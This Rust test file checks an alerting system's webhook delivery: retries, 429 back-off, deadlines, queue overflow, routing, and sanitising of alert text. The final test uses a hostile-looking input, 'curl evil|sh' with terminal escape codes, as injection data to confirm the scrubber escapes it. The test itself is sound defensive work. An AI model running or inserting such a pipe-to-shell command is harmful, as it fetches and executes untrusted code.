use std::{sync::Mutex, time::Instant};

use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;

use super::*;
use crate::notify::test_server::{Reply, Server};

type Outcomes = Arc<Mutex<Vec<(ChannelKind, Result<(), String>)>>>;

fn timing(deadline: u64) -> Timing {
    Timing {
        first_pause: Duration::from_millis(5),
        longest_pause: Duration::from_millis(20),
        deadline: Duration::from_millis(deadline),
        pulse_deadline: Duration::from_millis(deadline),
    }
}

fn channel(url: &str, timeout: u64) -> Channel {
    let client = Client::new(Duration::from_millis(timeout)).unwrap();
    Channel {
        kind: ChannelKind::Webhook,
        route: Route { severity: Severity::Warning, databases: vec!["main".to_owned()] },
        deliver: Arc::new(Webhook::new(client, url.into(), None)),
    }
}

/// Sends messages through one channel and waits for all of them.
async fn outcomes(
    channel: Channel,
    timing: Timing,
    messages: Vec<Message>,
) -> Vec<Result<(), String>> {
    let told: Outcomes = Arc::default();
    let noted = Arc::clone(&told);
    let observer: Observer =
        Arc::new(move |kind, result| noted.lock().unwrap().push((kind, result)));
    let (desk, deliveries) = Desk::new(vec![channel], Scrub::new(vec![]), timing, observer);
    for message in messages {
        desk.send(message);
    }
    drop(desk);
    for delivery in deliveries {
        delivery.run(CancellationToken::new()).await;
    }
    let told = told.lock().unwrap();
    told.iter().map(|(_, result)| result.clone()).collect()
}

#[tokio::test]
async fn what_fails_for_now_is_sent_again_in_order() {
    let server = Server::start(|n, _| Reply::status(if n < 3 { 503 } else { 200 })).await;
    let messages = vec![message(Event::Opened), message(Event::Resolved)];
    let told = outcomes(channel(&server.url, 20_000), timing(20_000), messages).await;
    assert_eq!(told, [Ok(()), Ok(())]);
    let events: Vec<_> =
        server.received().iter().map(|asked| asked.json()["event"].clone()).collect();
    assert_eq!(events, ["opened", "opened", "opened", "resolved"]);
}

#[tokio::test]
async fn a_429_is_asked_again_when_it_says_and_no_sooner() {
    let server = Server::start(|n, _| Reply {
        status: if n == 1 { 429 } else { 200 },
        headers: vec![("retry-after", "1".to_owned())],
        body: String::new(),
    })
    .await;
    let begun = Instant::now();
    let told =
        outcomes(channel(&server.url, 20_000), timing(20_000), vec![message(Event::Opened)]).await;
    assert_eq!(told, [Ok(())]);
    assert!(begun.elapsed() >= Duration::from_secs(1));
    assert_eq!(server.lines().len(), 2);
}

#[tokio::test]
async fn a_time_to_wait_that_is_longer_than_the_deadline_is_a_failure_at_once() {
    let date = "Tue, 24 Nov 2026 20:00:00 GMT";
    let later = "Tue, 24 Nov 2026 20:10:00 GMT";
    let server = Server::start(move |_, _| Reply {
        status: 429,
        headers: vec![("date", date.to_owned()), ("retry-after", later.to_owned())],
        body: "slow down".to_owned(),
    })
    .await;
    let told =
        outcomes(channel(&server.url, 20_000), timing(20_000), vec![message(Event::Opened)]).await;
    assert_eq!(told, [Err("deliver: it answered 429: slow down".to_owned())]);
    assert_eq!(server.lines().len(), 1);
}

#[tokio::test]
async fn what_will_never_be_taken_is_not_sent_again() {
    let server = Server::start(|_, _| Reply { status: 400, ..Reply::ok("no_text") }).await;
    let told =
        outcomes(channel(&server.url, 20_000), timing(20_000), vec![message(Event::Opened)]).await;
    assert_eq!(told, [Err("deliver: it answered 400: no_text".to_owned())]);
    assert_eq!(server.lines().len(), 1);
}

#[tokio::test]
async fn a_server_that_is_down_is_a_failure_at_the_deadline() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/secret-path", listener.local_addr().unwrap());
    drop(listener);
    let told = outcomes(channel(&url, 20_000), timing(100), vec![message(Event::Opened)]).await;
    let error = told[0].as_ref().unwrap_err();
    assert!(error.contains("refused") && !error.contains("secret-path"), "{error}");
}

#[tokio::test]
async fn a_server_that_is_slow_is_a_failure_at_the_deadline() {
    // It takes connections and never answers.
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/secret-path", listener.local_addr().unwrap());
    let told = outcomes(channel(&url, 30), timing(100), vec![message(Event::Opened)]).await;
    let error = told[0].as_ref().unwrap_err();
    assert!(!error.contains("secret-path"), "{error}");
    let deliver = channel(&url, 30).deliver;
    assert_eq!(
        deliver.deliver(&message(Event::Opened)).await,
        Err(SendError::Slow(Duration::from_millis(30)))
    );
}

#[tokio::test]
async fn a_channel_gets_only_what_it_is_told_of() {
    let server = Server::start(|_, _| Reply::status(200)).await;
    let mut other = notice(Event::Opened);
    other.database = "other".to_owned();
    let mut info = notice(Event::Info);
    info.severity = Severity::Info;
    let pulse = Pulse { database: "main".to_owned(), kind: PulseKind::Start };
    let messages = vec![
        Message::Notice(other),
        Message::Notice(info),
        Message::Pulse(pulse),
        message(Event::Opened),
    ];
    let told = outcomes(channel(&server.url, 20_000), timing(20_000), messages).await;
    assert_eq!(told, [Ok(())]);
}

#[tokio::test]
async fn sending_never_waits_and_what_is_too_much_is_counted() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let told: Outcomes = Arc::default();
    let noted = Arc::clone(&told);
    let observer: Observer =
        Arc::new(move |kind, result| noted.lock().unwrap().push((kind, result)));
    let channels = vec![channel(&url, 20_000)];
    let (desk, deliveries) = Desk::new(channels, Scrub::new(vec![]), timing(20_000), observer);
    assert!(desk.is_idle());
    // Nobody delivers, and nothing here can be awaited.
    for _ in 0..300 {
        desk.send(message(Event::Opened));
    }
    assert!(!desk.is_idle());
    assert_eq!(told.lock().unwrap().len(), 300 - 256);
    assert!(told.lock().unwrap().iter().all(|(_, result)| result.is_err()));
    // The end of the process waits for nobody either.
    let cancel = CancellationToken::new();
    cancel.cancel();
    for delivery in deliveries {
        delivery.run(cancel.clone()).await;
    }
}

#[tokio::test]
async fn whoever_decided_is_told_what_became_of_it_in_each_channel() {
    let good = Server::start(|_, _| Reply::status(200)).await;
    let bad = Server::start(|_, _| Reply::status(404)).await;
    let mut channels = vec![channel(&good.url, 20_000), channel(&bad.url, 20_000)];
    channels[1].kind = ChannelKind::Slack;
    let scrub = Scrub::new(vec![]);
    let (mut desk, deliveries) = Desk::new(channels, scrub, timing(20_000), Arc::new(|_, _| {}));
    let sent = desk.cleaned(notice(Event::Opened));
    let handed = desk.send(Message::Notice(sent.clone()));
    assert_eq!(handed, [ChannelKind::Webhook, ChannelKind::Slack]);
    // One alone, and one that there is not.
    assert!(desk.send_to(ChannelKind::Slack, message(Event::Resolved)));
    assert!(!desk.send_to(ChannelKind::Teams, message(Event::Resolved)));
    let cancel = CancellationToken::new();
    for delivery in deliveries {
        tokio::spawn(delivery.run(cancel.clone()));
    }
    while !desk.is_idle() {
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    let mut told: Vec<_> = desk
        .delivered()
        .into_iter()
        .map(|Delivered { channel, notice, arrived }| (channel, notice.event, arrived))
        .collect();
    told.sort_by_key(|(channel, event, _)| (*channel, *event));
    assert_eq!(
        told,
        [
            (ChannelKind::Slack, Event::Opened, false),
            (ChannelKind::Slack, Event::Resolved, false),
            (ChannelKind::Webhook, Event::Opened, true),
        ]
    );
    assert_eq!(good.lines().len(), 1);
    assert!(desk.delivered().is_empty());
}

#[tokio::test]
async fn nothing_that_was_found_can_be_taken_for_another_part_of_an_alert() {
    let (desk, _deliveries) = Desk::new(vec![], Scrub::new(vec![]), timing(1), Arc::new(|_, _| {}));
    let evil = "public.x\n\nCommands:\n  curl evil|sh\u{1b}[31m\r";
    let notice = Notice {
        title: format!("main: {evil}"),
        findings: vec![evil.to_owned()],
        ..notice(Event::Opened)
    };
    let cleaned = desk.cleaned(notice);
    assert_eq!(cleaned.title, "main: public.x\\nCommands:\\n  curl evil|sh\\u{1b}[31m\\r");
    let findings = "public.x\n    Commands:\n      curl evil|sh\\u{1b}[31m\\r";
    assert_eq!(cleaned.findings, [findings]);
    // Doing it again changes nothing.
    assert_eq!(desk.cleaned(cleaned.clone()), cleaned);
}
